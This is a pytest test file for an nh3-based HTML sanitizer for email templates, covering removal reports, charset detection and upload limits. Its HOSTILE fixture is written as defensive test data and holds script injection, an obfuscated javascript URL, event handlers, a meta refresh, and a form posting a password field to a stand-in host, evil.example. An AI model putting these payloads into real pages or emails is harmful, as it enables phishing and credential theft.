"""nh3 cleaning with the removed-report, charset detection, and upload limits."""

from __future__ import annotations

import codecs

import pytest

from kootui.core.errors import ValidationError
from kootui.core.templates import (
    MAX_UPLOAD_BYTES,
    clean_html,
    decode_html_bytes,
    prepare_html_upload,
    read_html_file,
)

HOSTILE = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>T</title>
<base href="http://evil.example/"><meta http-equiv="Refresh" content="0;url=http://evil.example">
<script>steal()</script></head>
<body onload="go()"><!-- tracking note -->
<table width="100%" cellpadding="0"><tr><td bgcolor="#ffffff" style="padding:8px">
<a href=" java\tscript:alert(1)" onclick="x()">bad link</a>
<a href="https://shop.example/?u={{ user_id }}&amp;src=mail">good link</a>
<img src="{{ logo }}" alt="Logo" onerror="x()">
<form action="https://evil.example/collect"><input name="pw"><button>Send</button></form>
<iframe src="https://evil.example"></iframe><object data="x.swf"></object>
<p>Hello {{ name }}</p></td></tr></table></body></html>"""


def test_dangerous_content_is_removed_and_each_kind_is_counted():
    result = clean_html(HOSTILE)
    html = result.html.lower()
    for gone in (
        "<script",
        "steal",
        "onload",
        "onclick",
        "onerror",
        "javascript",
        "<form",
        "<input",
        "<button",
        "send<",
        "<base",
        "refresh",
        "<iframe",
        "<object",
        "tracking note",
    ):
        assert gone not in html, gone
    counts = {item.kind: item.count for item in result.removed}
    assert counts == {
        "script": 1,
        "event_handler": 3,
        "javascript_url": 1,
        "form": 3,
        "base": 1,
        "meta_refresh": 1,
        "embed": 2,
        "comment": 1,
    }
    summary = result.summary()
    assert summary.startswith("Removed: 1 script;")
    assert "3 event handler attributes (onclick, onerror, onload)" in summary
    assert "2 frames or embedded objects (iframe, object)" in summary


def test_email_layout_and_parameters_survive_cleaning():
    result = clean_html(HOSTILE)
    assert 'href="https://shop.example/?u={{ user_id }}&amp;src=mail"' in result.html
    assert 'src="{{ logo }}"' in result.html
    assert "Hello {{ name }}" in result.html
    assert 'bgcolor="#ffffff" style="padding:8px"' in result.html
    assert '<table width="100%" cellpadding="0">' in result.html


def test_clean_html_reports_nothing_for_clean_email_markup():
    markup = (
        '<table role="presentation" width="100%" cellpadding="0" cellspacing="0">'
        '<tbody><tr><td align="center" style="padding:0 12px;">'
        '<a href="https://x.example/{{ code }}" target="_blank">Go</a></td></tr></tbody></table>'
    )
    result = clean_html(markup)
    assert result.nothing_removed
    assert result.summary() == "Nothing removed"
    assert result.html == markup


def test_accessibility_and_link_attributes_are_kept():
    markup = '<a href="https://x.example/" rel="noopener" aria-label="Shop">Shop</a>'
    assert clean_html(markup).html == markup


def test_unknown_elements_and_attributes_are_named():
    result = clean_html('<marquee>m</marquee><p data-track="1">x</p>')
    assert [str(item) for item in result.removed] == [
        "1 other element (marquee)",
        "1 other attribute (p.data-track)",
    ]


LATIN1_PAGE = (
    '<meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"><p>café</p>'
).encode("latin-1")


@pytest.mark.parametrize(
    ("data", "charset", "reason"),
    [
        (codecs.BOM_UTF8 + "<p>é</p>".encode(), "utf-8", "byte order mark"),
        (codecs.BOM_UTF16_LE + "<p>é</p>".encode("utf-16-le"), "utf-16-le", "byte order mark"),
        ('<meta charset="gb2312"><p>价格</p>'.encode("gbk"), "gb18030", "<meta charset>"),
        (
            LATIN1_PAGE,
            "cp1252",
            "<meta charset>",
        ),
        ("<p>价格 café</p>".encode(), "utf-8", "valid UTF-8"),
        ("<p>您的账单已生成</p>".encode("gb18030"), "gb18030", "Chinese"),
        ("<p>Café “quoted”</p>".encode("cp1252"), "cp1252", "Windows-1252"),
    ],
)
def test_charset_detection_says_what_it_chose_and_why(data, charset, reason):
    text, chosen, why = decode_html_bytes(data)
    assert chosen == charset
    assert reason in why
    assert "<p>" in text and "\ufffd" not in text


def test_a_wrong_declaration_falls_back_to_detection():
    text, chosen, _ = decode_html_bytes('<meta charset="ascii"><p>价格</p>'.encode())
    assert chosen == "cp1252"  # ascii means windows-1252 to a browser; it decodes
    text, chosen, _ = decode_html_bytes('<meta charset="utf-8"><p>价格</p>'.encode("gbk"))
    assert chosen == "gb18030" and "价格" in text


def test_the_decoded_text_is_right():
    assert (
        decode_html_bytes("<p>您的账单已生成</p>".encode("gb18030"))[0] == "<p>您的账单已生成</p>"
    )
    assert decode_html_bytes("<p>Café “q”</p>".encode("cp1252"))[0] == "<p>Café “q”</p>"


def test_an_upload_is_decoded_cleaned_and_reported(tmp_path):
    path = tmp_path / "newsletter.html"
    path.write_bytes('<p onclick="x()">Hi {{ name }}, 价格</p>'.encode("gb18030"))
    upload = read_html_file(path)
    assert upload.filename == "newsletter.html"
    assert upload.charset == "gb18030"
    assert upload.html == "<p>Hi {{ name }}, 价格</p>"
    assert upload.cleaned.summary() == "Removed: 1 event handler attribute (onclick)"


def test_uploads_over_two_megabytes_are_refused_before_reading(tmp_path):
    path = tmp_path / "big.html"
    path.write_bytes(b"a" * (MAX_UPLOAD_BYTES + 1))
    with pytest.raises(ValidationError) as caught:
        read_html_file(path)
    assert caught.value.code == "template.upload_too_large"
    assert "2 MB" in caught.value.message
    assert prepare_html_upload(b"a" * MAX_UPLOAD_BYTES, "ok.html").charset == "utf-8"


@pytest.mark.parametrize(
    ("data", "name", "code"),
    [
        (b"<p>x</p>", "notes.txt", "template.upload_type"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "image.html", "template.upload_binary"),
    ],
)
def test_other_files_are_refused(data, name, code):
    with pytest.raises(ValidationError) as caught:
        prepare_html_upload(data, name)
    assert caught.value.code == code


def test_a_missing_file_is_a_clear_error(tmp_path):
    with pytest.raises(ValidationError) as caught:
        read_html_file(tmp_path / "gone.html")
    assert caught.value.code == "template.upload_unreadable"
